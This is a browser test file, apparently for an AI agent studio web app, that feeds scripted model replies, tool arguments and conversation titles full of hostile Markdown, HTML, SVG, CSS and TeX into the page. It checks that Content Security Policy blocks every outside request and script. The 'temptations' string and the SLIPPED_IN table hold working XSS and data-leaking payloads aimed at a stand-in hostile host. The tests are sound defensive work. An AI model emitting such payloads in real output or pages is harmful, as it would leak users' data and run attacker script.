"""What a model, a tool or a file puts out reaches no other host from the page, and what slips in does nothing there."""

import json
from collections.abc import AsyncGenerator
from typing import Any

import pytest_asyncio
from playwright.async_api import Page, Request, expect

from tests.browser import BROWSER_TEST, Watch
from tests.client import Client
from tests.fakes.hostile_server import HostileServer
from tests.fakes.hostile_server import page as web_page
from tests.fakes.openai_replies import Call, Says
from tests.studio_page import opened
from tests.studio_server import Modelled

pytestmark = BROWSER_TEST


@pytest_asyncio.fixture(loop_scope="session")
async def elsewhere() -> AsyncGenerator[HostileServer, None]:
    """Another origin, which sees whatever reaches it."""
    async with HostileServer() as server:
        yield server


def temptations(url: str) -> str:
    """Everything in Markdown, HTML, SVG, CSS and TeX that would ask `url`, or run."""
    return f"""
![picture]({url}/markdown.png?q=secret) [link]({url}/link) <{url}/auto> [script](javascript:window.hacked=1)
[page](data:text/html,<script>window.hacked=1</script>) [![both]({url}/inner.png)]({url}/outer) ![ref][1]

[1]: {url}/reference.png

<img src="{url}/img.png"> <img srcset="{url}/srcset.png 2x"> <img src=x onerror="window.hacked=1">
<picture><source srcset="{url}/source.png"><img alt=""></picture> <input type="image" src="{url}/input.png">
<video src="{url}/video.mp4" poster="{url}/poster.png" autoplay></video> <audio src="{url}/audio.mp3" autoplay></audio>
<iframe src="{url}/iframe"></iframe> <iframe srcdoc="<img src='{url}/srcdoc.png'>"></iframe>
<object data="{url}/object"></object> <embed src="{url}/embed"> <script src="{url}/script.js"></script>
<script>window.hacked = 1</script> <link rel="stylesheet" href="{url}/link.css">
<link rel="prefetch" href="{url}/prefetch">
<style>@import url("{url}/import.css"); body {{ background: url("{url}/style.png") }}</style>
<div style="background-image: url({url}/inline.png)">styled</div> <table background="{url}/table.png"><tr><td>x</table>
<base href="{url}/"> <meta http-equiv="refresh" content="0; url={url}/refresh">
<form action="{url}/form"><button autofocus>send</button></form> <a href="{url}/ping" ping="{url}/pinged">ping</a>
<svg xmlns="http://www.w3.org/2000/svg"><image href="{url}/svg.png"/><use href="{url}/use.svg#x"/>
<foreignObject><img src="{url}/foreign.png"></foreignObject><script>window.hacked=1</script>
<animate onbegin="window.hacked=1" attributeName="x" dur="1s"/><style>@import "{url}/svg.css";</style></svg>
<math><mtext><img src="{url}/math.png"></mtext></math> <details open ontoggle="window.hacked=1">x</details>

$\\includegraphics{{{url}/tex.png}}$ $\\href{{{url}/tex}}{{x}}$ $\\url{{{url}/texurl}}$
$\\htmlStyle{{background: url({url}/texstyle.png)}}{{x}}$ $\\htmlData{{x={url}}}{{x}}$ $x^2$

```html
<img src="{url}/code.png"><script>window.hacked=1</script>
```

```mermaid
graph TD; A-->B; click A "{url}/mermaid"
```

The end.
"""


async def test_nothing_that_a_model_says_reaches_another_host(
    page: Page, modelled: Modelled, elsewhere: HostileServer
) -> None:
    asked: list[Request] = []
    page.on("request", lambda request: asked.append(request))
    await page.add_init_script(
        "addEventListener('securitypolicyviolation', (event) => console.error('violation: ' + event.blockedURI))"
    )
    studio = await opened(page, modelled.base_url)
    said = temptations(elsewhere.base_url)
    call = Call("calculator", json.dumps({"expression": said}))
    modelled.model.script(Says(reasoning=said, calls=(call,)), Says(said))
    await studio.configure()
    await studio.tool("calculator").get_by_role("switch").check()
    await studio.set("prologue", said)
    await studio.ask("tempt me")
    await expect(studio.answers("preview").last).to_contain_text("The end.")
    await expect(studio.answers("preview").last.locator(".katex").first).to_be_visible()
    await page.reload()
    await page.wait_for_selector("html[data-af-ready]")
    await expect(studio.answers("preview").last).to_contain_text("The end.")
    await studio.tab(0)
    modelled.model.script(Says(said))
    await studio.build("and you?")
    await expect(studio.answers("create").last).to_contain_text("The end.")
    assert await page.evaluate("window.hacked") is None
    assert [request.url for request in asked if not request.url.startswith((modelled.base_url, "data:", "blob:"))] == []
    assert elsewhere.asked == []
    assert page.url.startswith(modelled.base_url)


async def test_a_conversation_s_title_is_words(page: Page, modelled: Modelled, elsewhere: HostileServer) -> None:
    title = f"<img src=x onerror=window.hacked=1> ![x]({elsewhere.base_url}/t.png)"
    async with Client(modelled.base_url) as client:
        agent = await client.post("/api/agents")
        conversation = await client.conversation(agent["id"])
        await client.say(conversation, "Hello")
        assert (await client.call("PATCH", conversation, json={"title": title})).status == 200
    studio = await opened(page, f"{modelled.base_url}/?agent={agent['id']}")
    await expect(page.locator(".st-conversation")).to_have_text(title)
    await page.locator(".st-conversation").click()
    await expect(page.locator("#preview_conversations .st-open b")).to_have_text([title])
    await expect(studio.page.locator("img[src=x]")).to_have_count(0)
    assert elsewhere.asked == []


SLIPPED_IN: dict[str, str] = {
    "img-src": "add(`<img src='${url}/a.png'>`)",
    "style-src-elem": "add(`<link rel=stylesheet href='${url}/a.css'>`)",
    "font-src": "new FontFace('x', `url(${url}/a.woff)`).load().catch(() => {})",
    "media-src": "add(`<video src='${url}/a.mp4' preload=auto></video>`)",
    "frame-src": "add(`<iframe src='${url}/a'></iframe>`)",
    "object-src": "add(`<object data='${url}/a'></object>`)",
    "connect-src": "fetch(`${url}/a`).catch(() => {})",
    "script-src-attr": "add(`<img src='data:,' onerror='window.hacked=1'>`)",
    "script-src-elem": "document.body.append(Object.assign(document.createElement('script'), { src: `${url}/a.js` }))",
    "worker-src": "try { new Worker(URL.createObjectURL(new Blob(['1']))) } catch {}",
    "base-uri": "document.head.prepend(Object.assign(document.createElement('base'), { href: `${url}/` }))",
    "form-action": "add(`<form action='${url}/a'></form>`).querySelector('form').submit()",
}


async def test_what_slipped_into_the_page_would_neither_run_nor_reach_another_host(
    page: Page, watch: Watch, guided: str, elsewhere: HostileServer
) -> None:
    watch.expected += ["Content Security Policy", f"request to another host: {elsewhere.base_url}"]
    elsewhere.answers["/a.js"] = web_page(b"window.hacked = 1", media_type="text/javascript")
    await opened(page, guided)
    for directive, attempt in SLIPPED_IN.items():
        violated: Any = await page.evaluate(
            """([url, attempt]) => new Promise((done) => {
                addEventListener("securitypolicyviolation", (event) => done(event.effectiveDirective), { once: true });
                const add = (html) => document.body.appendChild(
                    Object.assign(document.createElement("div"), { innerHTML: html }));
                new Function("url", "add", attempt)(url, add);
            })""",
            [elsewhere.base_url, attempt],
        )
        assert violated == directive
    assert await page.evaluate("window.hacked") is None
    assert elsewhere.asked == []


async def test_an_inline_script_that_is_not_the_page_s_own_does_not_run(page: Page, watch: Watch, guided: str) -> None:
    watch.expected.append("Content Security Policy")
    await opened(page, guided)
    await page.evaluate(
        "document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.hacked = 1' }))"
    )
    assert await page.evaluate("window.hacked") is None


async def test_the_api_s_pages_work_under_the_same_policy(page: Page, guided: str) -> None:
    await page.goto(f"{guided}/docs")
    # Of many operations the page draws those that are looked at: the first is there.
    block = page.locator(".opblock").filter(has=page.get_by_text("/api/agents", exact=True)).first
    await block.locator("button").first.click()
    await block.get_by_role("button", name="Try it out").click()
    await block.get_by_role("button", name="Execute").click()
    await expect(block.locator(".live-responses-table td.response-col_status").last).to_contain_text("200")
    policy = "(async () => (await fetch(location.href)).headers.get('content-security-policy'))()"
    assert "'unsafe-inline'; img-src" in await page.evaluate(policy)
    assert "script-src 'self' 'unsafe-eval' 'sha256-" in await page.evaluate(policy)
